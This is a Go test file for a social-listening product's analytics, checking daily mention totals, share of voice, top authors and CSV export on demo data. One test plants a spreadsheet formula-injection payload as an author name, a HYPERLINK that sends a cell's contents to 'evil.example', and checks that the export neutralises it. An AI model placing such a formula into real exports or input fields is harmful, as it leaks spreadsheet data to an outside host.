package workspace

import (
	"bytes"
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stormdesk/stormdesk/backend/demo"
	"github.com/stormdesk/stormdesk/backend/inbox"
	"github.com/stormdesk/stormdesk/backend/listening"
	"github.com/stormdesk/stormdesk/backend/store"
)

// TestListeningAnalyticsOnDemoData reads the demo brand topic's analytics:
// its days add up to its mentions, share of voice splits all topics'
// mentions, the top terms leave out what the queries look for, and the CSV
// export says the same as the page.
func TestListeningAnalyticsOnDemoData(t *testing.T) {
	ctx := context.Background()
	now := time.Date(2026, 3, 11, 15, 0, 0, 0, time.UTC)
	ws := demoWorkspace(t, now)
	topics, err := ws.ListeningTopics(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var brand, rival store.ListeningTopic
	for _, tp := range topics {
		switch tp.Name {
		case demo.ListeningBrand:
			brand = tp
		case demo.ListeningCompetitor:
			rival = tp
		}
	}
	if brand.ID == 0 || rival.ID == 0 {
		t.Fatalf("demo topics: %+v", topics)
	}
	req := ListeningAnalyticsRequest{Days: 14, TimeZone: "Europe/Berlin", TopicIDs: []int64{brand.ID}}
	a, err := ws.ListeningAnalytics(ctx, req, now)
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Days) != 14 {
		t.Errorf("%d days, want 14", len(a.Days))
	}
	perDay := 0
	for _, d := range a.Days {
		perDay += d.Negative + d.Neutral + d.Positive + d.Unscored
	}
	if a.Mentions == 0 || perDay != a.Mentions {
		t.Errorf("the days hold %d mentions, the period %d", perDay, a.Mentions)
	}
	all, share := 0, 0.0
	for _, ts := range a.Topics {
		tp := ts.Topic
		all += tp.Mentions
		share += ts.Share
		if ts.Selected != (tp.ID == brand.ID) {
			t.Errorf("topic %s selected = %v", tp.Name, ts.Selected)
		}
		if tp.ID == brand.ID && tp.Mentions != a.Mentions {
			t.Errorf("the brand topic counts %d mentions, the period %d", tp.Mentions, a.Mentions)
		}
	}
	if len(a.Topics) != 2 || share < 0.999 || share > 1.001 {
		t.Errorf("topics %+v: shares add up to %v", a.Topics, share)
	}
	if a.BrandShare <= 0.5 || a.BrandShare >= 1 {
		t.Errorf("brand share of voice %v: the demo brand has more mentions than its rival, and the rival some", a.BrandShare)
	}
	if len(a.Sources) < 4 {
		t.Errorf("sources %+v: want at least four", a.Sources)
	}
	for i := 1; i < len(a.Authors); i++ {
		if a.Authors[i].Reach > a.Authors[i-1].Reach {
			t.Fatalf("authors not by reach: %+v", a.Authors)
		}
	}
	if len(a.Authors) == 0 || len(a.Authors) > topAuthorsN {
		t.Errorf("%d top authors", len(a.Authors))
	}
	if a.Engagement.Reporting == 0 || a.Engagement.Reactions == 0 {
		t.Errorf("engagement %+v: the demo sources report reactions", a.Engagement)
	}
	if len(a.Terms) == 0 {
		t.Error("no top terms")
	}
	for _, term := range a.Terms {
		if term.Term == "aurora" || term.Term == "auroraair" || term.Term == "polar" {
			t.Errorf("top term %q is what a topic looks for", term.Term)
		}
	}

	var b bytes.Buffer
	if err := ws.ExportListeningCSV(ctx, &b, "share", req, now); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || rows[0][0] != "topic" || rows[1][0] != a.Topics[0].Topic.Name || rows[1][2] != strconv.Itoa(a.Topics[0].Topic.Mentions) {
		t.Errorf("share CSV = %q", rows)
	}
	for _, kind := range ListeningCSVKinds {
		b.Reset()
		if err := ws.ExportListeningCSV(ctx, &b, kind, req, now); err != nil || !strings.Contains(b.String(), "\n") {
			t.Errorf("export %s: %v %q", kind, err, b.String())
		}
	}
	if err := ws.ExportListeningCSV(ctx, &b, "nope", req, now); err == nil {
		t.Error("an unknown export kind was accepted")
	}
}

// TestConversationEngagementOnDemoData reads the demo's discussion depth:
// the total is the sum of the channels.
func TestConversationEngagementOnDemoData(t *testing.T) {
	ctx := context.Background()
	now := time.Date(2026, 3, 11, 15, 0, 0, 0, time.UTC)
	ws := demoWorkspace(t, now)
	e, err := ws.ConversationEngagement(ctx, AnalyticsRequest{Days: 30, TimeZone: "UTC"}, now)
	if err != nil {
		t.Fatal(err)
	}
	if len(e.Channels) < 3 {
		t.Fatalf("channels %+v: the demo has several", e.Channels)
	}
	total := e.Channels[0]
	convs, msgs := 0, 0
	for _, c := range e.Channels[1:] {
		convs += c.Conversations
		msgs += c.Messages
	}
	if total.Conversations == 0 || total.Conversations != convs || total.Messages != msgs || total.Participants < total.Conversations {
		t.Errorf("total %+v, channels add up to %d conversations and %d messages", total, convs, msgs)
	}
	if _, err := ws.ConversationEngagement(ctx, AnalyticsRequest{Days: 0}, now); err == nil {
		t.Error("a range of 0 days was accepted")
	}
}

// TestListeningExportKeepsFormulasAsText: a web author whose display name is
// a spreadsheet formula is exported as text, not as a formula a PR lead's
// spreadsheet would run when opening the file.
func TestListeningExportKeepsFormulasAsText(t *testing.T) {
	ctx := context.Background()
	now := time.Date(2026, 3, 11, 15, 0, 0, 0, time.UTC)
	ws := openWS(t)
	topic, err := ws.Store.SaveListeningTopic(ctx, store.ListeningTopic{Name: "Acme", Query: "acme", Enabled: true})
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Acme support")`
	m := listening.Mention{Source: listening.SourceMastodon, ExternalID: "1", URL: "https://m.example/@x/1", Author: evil,
		AuthorURL: "@evil", Reach: 900, Text: "acme is down", Published: now.Add(-time.Hour), Replies: -1, Reactions: -1}
	if _, err := ws.Store.SaveListeningBatch(ctx, store.ListeningBatch{TopicID: topic.ID, PolledAt: now,
		Mentions: []store.ScoredMention{{Mention: m, Sentiment: inbox.SentimentNegative, Score: -0.8}}}); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	req := ListeningAnalyticsRequest{Days: 7, TopicIDs: []int64{topic.ID}}
	if err := ws.ExportListeningCSV(ctx, &b, "authors", req, now); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[1][1] != "'"+evil || rows[1][2] != "'@evil" || rows[1][4] != "900" {
		t.Errorf("authors CSV = %q; want the name and address as text ('), the reach as a number", rows)
	}
}
